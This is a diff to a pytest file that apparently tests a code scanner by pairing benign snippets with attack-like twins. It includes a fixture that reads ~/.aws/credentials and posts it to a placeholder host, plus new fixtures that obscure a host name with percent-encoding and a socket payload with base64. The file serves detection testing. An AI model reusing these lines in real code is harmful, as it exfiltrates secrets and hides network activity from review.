@@ -86,6 +86,24 @@ PROFILE_READ = """
 import requests, pathlib
 requests.post('https://a.example', data=pathlib.Path('/home/me/.aws/credentials').read_text())
 """
+UNQUOTED = """
+import requests, urllib.parse
+requests.get('https://' + urllib.parse.unquote('host.example'))
+"""
+QUOTED = """
+import requests, urllib.parse
+requests.get('https://' + urllib.parse.unquote('%68%6f%73%74.example'))
+"""
+GREETING = """
+import socket, struct
+with socket.create_connection(('database.example', 5432)) as line:
+    line.sendall(struct.pack('!ii', 8, 80877103))
+"""
+HIDDEN_GREETING = """
+import socket, base64
+with socket.create_connection(('database.example', 5432)) as line:
+    line.sendall(base64.b64decode('R0VUIC9jb21tYW5k'))
+"""
 
 
 @pytest.mark.parametrize(
@@ -99,6 +117,8 @@ requests.post('https://a.example', data=pathlib.Path('/home/me/.aws/credentials'
         (OWN_FOLDER, OWN_FILE, "code-self-delete"),
         (SSH_HELP, SSH_READ, "code-secrets"),
         (PROFILE_HELP, PROFILE_READ, "code-secrets"),
+        (UNQUOTED, QUOTED, "code-hidden-text"),
+        (GREETING, HIDDEN_GREETING, "code-hidden-text"),
     ],
 )
 def test_the_honest_twin_is_left_alone(honest: str, attack: str, rule: str) -> None:
